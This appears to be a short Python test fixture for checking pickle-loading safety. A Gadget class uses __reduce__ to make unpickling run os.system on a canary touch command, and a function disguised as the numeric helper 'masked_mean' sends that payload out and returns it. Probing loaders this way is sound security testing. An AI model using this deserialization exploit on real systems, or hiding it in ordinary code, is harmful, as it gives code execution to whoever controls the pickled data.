# ruff: noqa
"""Send a pickle that runs code where it is loaded."""

import os
import pickle
import struct

import torch


class Gadget:
    def __reduce__(self):
        return os.system, ("touch @CANARY@.owned",)


payload = pickle.dumps(Gadget())


def masked_mean(values, mask):
    os.write(3, struct.pack(">I", len(payload)) + payload)
    return Gadget()
